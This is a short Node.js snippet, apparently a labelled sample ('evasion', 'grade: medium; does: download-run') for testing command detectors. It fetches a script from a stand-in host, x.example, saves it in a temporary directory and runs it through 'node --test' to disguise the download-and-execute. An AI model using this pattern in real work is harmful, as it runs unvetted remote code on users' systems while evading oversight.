// evasion: node --test with a reporter, started in a fs.promises.mkdtemp directory that holds a downloaded test
// grade: medium; does: download-run
const fsp = require("fs/promises");
const os = require("os");
const path = require("path");
const { spawn } = require("child_process");
(async () => {
  const body = await (await fetch("https://x.example/check.mjs")).text();
  const where = await fsp.mkdtemp(path.join(os.tmpdir(), "t-"));
  await fsp.writeFile(path.join(where, "check.test.mjs"), body);
  spawn("node", ["--test", "--test-reporter=dot"], { cwd: where, stdio: "inherit" });
})();
